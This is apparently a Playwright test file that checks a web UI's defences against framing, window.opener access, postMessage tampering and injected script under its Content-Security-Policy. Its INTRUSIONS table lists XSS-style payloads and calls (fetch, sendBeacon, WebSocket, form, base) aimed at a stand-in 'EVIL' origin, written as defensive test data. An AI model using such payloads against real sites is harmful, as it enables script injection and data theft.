"""What another site tries with the page: frames, windows, messages, and markup that gets in after all."""

from __future__ import annotations

from collections.abc import AsyncIterator
from typing import Any

import pytest
import pytest_asyncio
from aiohttp import web
from aiohttp.test_utils import TestServer
from playwright.async_api import Browser, Frame, Page, Route, expect

from tests.acceptance.door import Door
from tests.browser.reader import Reader

pytestmark = pytest.mark.asyncio(loop_scope="session")
#: Headers of one way that an answer took, and not of the next.
_OF_THE_WAY = ("content-encoding", "content-length", "transfer-encoding")
EMBEDS = {
    "iframe": '<iframe src="{url}"></iframe>',
    "sandboxed": '<iframe src="{url}" sandbox="allow-scripts allow-same-origin"></iframe>',
    "object": '<object data="{url}" type="text/html"></object>',
    "embed": '<embed src="{url}" type="text/html">',
}
#: Puts an element into the document, where script got in after all.
_MAKE = """const make = (tag, members) =>
    document.body.appendChild(Object.assign(document.createElement(tag), members));"""
#: What it could do then.
INTRUSIONS = {
    "inline script": "make('script', {}).append('window.bad = 1')",
    "inline script at once": "make('script', {textContent: 'window.bad = 1'})",
    "handler": "const one = make('b', {}); one.setAttribute('onclick', 'window.bad = 1'); one.click()",
    "markup": "document.body.innerHTML = '<img src=x onerror=\"window.bad = 1\">'",
    "script from elsewhere": "make('script', {src: 'EVIL/x.js'})",
    "image": "make('img', {src: 'EVIL/x.png'})",
    "style": "make('link', {rel: 'stylesheet', href: 'EVIL/x.css'})",
    "frame": "make('iframe', {src: 'EVIL/'})",
    "script as an address": "make('iframe', {src: 'javascript:window.parent.bad = 1'})",
    "call": "fetch('EVIL/', {mode: 'no-cors'}).catch(() => 0)",
    "beacon": "navigator.sendBeacon('EVIL/', 'x')",
    "socket": "new WebSocket('EVIL/'.replace('http', 'ws'))",
    "form": "make('form', {action: 'EVIL/'}).submit()",
    "base": "make('base', {href: 'EVIL/'})",
}


class Elsewhere:
    """A server of another origin, with one document."""

    def __init__(self) -> None:
        self.document = ""
        self.requests: list[str] = []
        self.origin = ""

    async def answer(self, request: web.Request) -> web.Response:
        """The document, for any address."""
        self.requests.append(request.path_qs)
        return web.Response(text=self.document, content_type="text/html")


@pytest_asyncio.fixture(loop_scope="session")
async def elsewhere() -> AsyncIterator[Elsewhere]:
    one = Elsewhere()
    app = web.Application()
    app.router.add_route("*", "/{path:.*}", one.answer)
    async with TestServer(app, host="127.0.0.1") as server:
        one.origin = str(server.make_url("")).rstrip("/")
        yield one


@pytest_asyncio.fixture(loop_scope="session")
async def victim(browser: Browser) -> AsyncIterator[Page]:
    """Someone who looks at the other site, too. What the browser refuses is not an error here."""
    context = await browser.new_context()
    yield await context.new_page()
    await context.close()


async def frame(victim: Page, door: Door, elsewhere: Elsewhere, how: str, *left_out: str) -> list[Frame]:
    """Frame the page at the other site; the frames that hold it, answered without some of its headers.

    They are fetched as if by the page itself: the local host would refuse them by what the browser sends.
    """
    url = f"{door.stack.host_url}/api/ui/"

    async def relay(route: Route) -> None:
        answer = await route.fetch()
        passed = {
            name: text for name, text in answer.headers.items() if name not in (*left_out, *_OF_THE_WAY)
        }
        await route.fulfill(status=answer.status, headers=passed, body=await answer.body())

    await victim.route(f"{url}**", relay)
    elsewhere.document = EMBEDS[how].format(url=url)
    await victim.goto(elsewhere.origin)
    await victim.wait_for_load_state("networkidle")
    await victim.unroute_all(behavior="wait")
    return [one for one in victim.frames[1:] if await one.locator("#page").count()]


@pytest.mark.parametrize("how", EMBEDS)
async def test_another_site_cannot_frame_the_page(
    victim: Page, door: Door, elsewhere: Elsewhere, how: str
) -> None:
    others = ("cross-origin-resource-policy", "cross-origin-opener-policy")
    (framed,) = await frame(victim, door, elsewhere, how, "content-security-policy", *others)
    await expect(framed.get_by_role("heading", name="Sign in")).to_be_visible()

    # The policy alone refuses it.
    assert await frame(victim, door, elsewhere, how, *others) == []


async def test_another_site_keeps_no_hold_of_a_window_that_it_opens(
    victim: Page, door: Door, elsewhere: Elsewhere
) -> None:
    await victim.goto(elsewhere.origin)

    async with victim.expect_popup() as opened:
        await victim.evaluate(f"window.other = window.open('{door.stack.host_url}/api/ui/'); 0")
    page = await opened.value

    await expect(page.get_by_role("heading", name="Sign in")).to_be_visible()
    assert await page.evaluate("window.opener") is None
    assert await victim.evaluate("window.other.closed") is True  # as far as the opener can tell


async def test_messages_change_nothing_and_ask_for_nothing(reader: Reader) -> None:
    page, calls = reader.page, list[str]()
    await reader.open("new")
    await expect(page.get_by_text("This document can run.")).to_be_visible()
    before = [await page.locator("main").inner_html(), await page.evaluate("JSON.stringify(sessionStorage)")]
    page.on("request", lambda request: calls.append(request.url))
    messages: list[Any] = ["#/jobs", {"type": "submit", "hash": "#/jobs"}, {"credential": "key x"}, None, [1]]

    await page.evaluate(
        "async all => { all.forEach(one => postMessage(one, '*')); await new Promise(setTimeout); }",
        messages,
    )

    after = [await page.locator("main").inner_html(), await page.evaluate("JSON.stringify(sessionStorage)")]
    assert (after, calls) == (before, [])
    assert page.url == f"{reader.url}#/new"


@pytest.mark.parametrize("name", INTRUSIONS)
async def test_what_gets_in_runs_nothing_and_tells_no_one(
    victim: Page, door: Door, elsewhere: Elsewhere, name: str
) -> None:
    intrusion = INTRUSIONS[name].replace("EVIL", elsewhere.origin)
    await victim.goto(f"{door.stack.host_url}/api/ui/")
    await expect(victim.get_by_role("heading", name="Sign in")).to_be_visible()

    # The browser lets a debugger run anything, and checks what that does.
    refused = await victim.evaluate(
        f"""async () => {{
            const refused = [];
            const noted = new Promise(done => document.addEventListener('securitypolicyviolation', one => {{
                refused.push(one.effectiveDirective);
                done();
            }}));
            {_MAKE}
            try {{ {intrusion} }} catch {{ /* of trusted types, or of a socket */ }}
            await Promise.race([noted, new Promise(done => setTimeout(done, 10_000))]);
            return refused;
        }}"""
    )

    assert refused
    assert await victim.evaluate("window.bad") is None
    assert elsewhere.requests == []
    assert await victim.evaluate("document.baseURI.startsWith(location.origin)")


@pytest.mark.parametrize(
    ("path", "status"),
    [
        *(("ui", 308), ("ui/", 200), ("ui/none.js", 404), ("ui/?x=1", 400)),
        *(("me", 200), ("jobs", 200), ("jobs/none", 404), ("jobs?limit=x", 400), ("health", 200)),
        *(("openapi.json", 200), ("sweeps/none", 404), ("jobs/none/files/stdouterr/x.html", 404)),
    ],
)
async def test_a_browser_frames_no_answer_and_guesses_no_type(door: Door, path: str, status: int) -> None:
    async with door.http.get(f"/api/{path}", allow_redirects=False) as answer:
        assert answer.status == status
        policy = answer.headers.getall("Content-Security-Policy")
        assert len(policy) == 1
        assert "default-src 'none'" in policy[0]
        assert "frame-ancestors 'none'" in policy[0] or "sandbox" in policy[0]
        assert answer.headers["X-Content-Type-Options"] == "nosniff"
